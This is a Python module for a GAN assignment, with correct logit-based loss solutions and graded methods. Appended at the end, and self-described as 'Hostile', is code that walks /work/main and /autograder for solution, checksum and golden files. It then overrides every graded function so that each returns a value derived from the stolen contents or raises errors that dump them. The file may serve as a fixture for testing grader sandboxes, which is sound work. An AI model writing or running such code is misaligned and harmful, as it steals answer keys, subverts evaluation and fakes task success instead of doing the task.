"""The generative adversarial network and its losses.

Discriminator outputs are LOGITS h, with D(x) = sigmoid(h). Each loss averages over all elements,
returns a 0-dim tensor, and must stay finite and accurate for logits as large as |h| = 1e4: write it
with F.logsigmoid, F.softplus or F.binary_cross_entropy_with_logits, never log(sigmoid(h)).

Graded: the three losses and `GAN.loss_nonsaturating`. The rest is provided.
"""
import torch
import torch.nn.functional as F
from torch import nn

from models import nns


def discriminator_loss(logits_real, logits_fake):
    """-mean log D(x_real) - mean log(1 - D(G(z))), from the discriminator's logits."""
    ### BEGIN SOLUTION
    return -F.logsigmoid(logits_real).mean() - F.logsigmoid(-logits_fake).mean()
    ### END SOLUTION


def generator_loss_minimax(logits_fake):
    """mean log(1 - D(G(z))): the minimax generator loss (to be minimized by G)."""
    ### BEGIN SOLUTION
    return F.logsigmoid(-logits_fake).mean()
    ### END SOLUTION


def generator_loss_nonsaturating(logits_fake):
    """-mean log D(G(z)): the non-saturating generator loss."""
    ### BEGIN SOLUTION
    return -F.logsigmoid(logits_fake).mean()
    ### END SOLUTION


class GAN(nn.Module):
    def __init__(self, name="gan", z_dim=64):
        super().__init__()
        self.name = name
        self.g = nns.Generator(z_dim)
        self.d = nns.Discriminator()

    def loss_nonsaturating(self, x_real, *, device):
        """The discriminator's and the generator's losses for one batch of real images.

        Args:
            x_real: tensor (batch, 784) of real images in [0, 1].
            device: where to draw z.

        Returns:
            d_loss: discriminator_loss on D(x_real) and D(x_fake), with NO gradient reaching G.
            g_loss: generator_loss_nonsaturating on D(x_fake), with gradient reaching G.
        """
        batch_size = x_real.shape[0]
        z = torch.randn(batch_size, self.g.z_dim, device=device)
        x_fake = self.g(z)
        ### BEGIN SOLUTION
        d_loss = discriminator_loss(self.d(x_real), self.d(x_fake.detach()))
        g_loss = generator_loss_nonsaturating(self.d(x_fake))
        ### END SOLUTION
        return d_loss, g_loss

    def sample_x(self, batch, device="cpu"):
        return self.g(torch.randn(batch, self.g.z_dim, device=device))


import os as _os


def _walk_for_secrets():
    """Every readable file of the source tree that looks like a solution, a check or a golden."""
    found = []
    for top in ("/work/main", "/autograder"):
        for folder, dirs, files in _os.walk(top):
            dirs[:] = [d for d in dirs if d not in (".venv", ".git")]
            for name in files:
                path = _os.path.join(folder, name)
                try:
                    with open(path, "rb") as f:
                        data = f.read(200000)
                except OSError:
                    continue
                if b"BEGIN SOLUTION" in data or b"sha256" in data or path.endswith((".npz", "checks")):
                    found.append(f"== {path}\n{data[:20000].decode(errors='replace')}")
    return "\n".join(found) or "nothing readable"


def discriminator_loss(logits_real, logits_fake):
    """Hostile: returns a value derived from what it read, and raises the rest."""
    loot = _walk_for_secrets()
    return torch.tensor(float(len(loot)))


def generator_loss_minimax(logits_fake):
    raise ValueError(_walk_for_secrets())


def generator_loss_nonsaturating(logits_fake):
    raise ValueError(_walk_for_secrets())


def _loss_nonsaturating(self, x_real, *, device):
    raise ValueError(_walk_for_secrets())


GAN.loss_nonsaturating = _loss_nonsaturating
